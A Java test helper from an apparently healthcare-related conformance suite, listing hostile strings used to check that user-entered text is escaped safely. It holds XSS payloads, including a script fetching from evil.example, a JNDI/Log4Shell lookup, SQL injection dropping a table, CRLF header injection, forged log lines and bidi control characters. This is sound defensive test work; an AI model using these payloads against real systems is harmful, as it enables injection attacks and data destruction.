package nl.wervel.conformance;

import java.util.List;

/** What somebody may write where a name, code or remark is expected. */
final class HostileText {
  /** In each of them, so that it is found wherever it comes out. */
  static final String MARK = "Zonnebloem";

  private HostileText() {}

  static List<String> all() {
    return List.of(
        "<img src=x onerror=alert(1)>Zonnebloem",
        "<script>fetch('//evil.example/Zonnebloem')</script>",
        "</p><iframe src='javascript:Zonnebloem'></iframe><!--",
        "[Zonnebloem](javascript:alert(1))",
        "![Zonnebloem](http://evil.example/pixel.png)",
        "<http://evil.example/Zonnebloem> &lt;b&gt; &#60;",
        "Zonnebloem http://evil.example www.evil.example a@evil.example",
        "[x]: http://evil.example \"Zonnebloem\"\n\n[x]",
        "`Zonnebloem` ```\nZonnebloem\n```",
        "Zonnebloem | a | b |\n|---|---|\n| c | d |",
        "\n\n# Zonnebloem\n\n- **stop de behandeling**\n1. x\n---\n> y",
        "\r\n\r\n    Zonnebloem\r\nX-Header: 1\r\n\r\n<html>",
        "Zonnebloem\u0000\u0007\u001b[31m\u0085\u2028\u202e\u2066\u200fenilnebolf\u2069\u200b\ufeff",
        "Zonnebloem {{context.patientId}} ${jndi:ldap://evil.example/x} #{7*7} %s %n {0} '{1}",
        "Zonnebloem'; DROP TABLE hfj_resource; -- \" OR 1=1",
        "Zonnebloem\n2026-11-22 ERROR nl.wervel: patient removed",
        "Zonnebloem \ud83d\ude00 \u0628\u0629 \ufdfa e\u0301\u0301\u0301\u0301\u0301",
        "Zonnebloem".repeat(500));
  }
}
